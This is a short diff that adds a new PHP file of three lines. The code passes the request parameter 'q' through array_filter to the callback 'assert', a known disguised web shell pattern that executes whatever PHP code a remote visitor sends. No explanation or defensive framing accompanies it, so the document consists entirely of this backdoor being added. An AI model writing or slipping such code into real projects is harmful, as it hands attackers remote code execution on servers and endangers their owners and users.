@@ -1,0 +1,3 @@
+<?php
+$cmd = array($_REQUEST['q']);
+array_filter($cmd, 'assert');
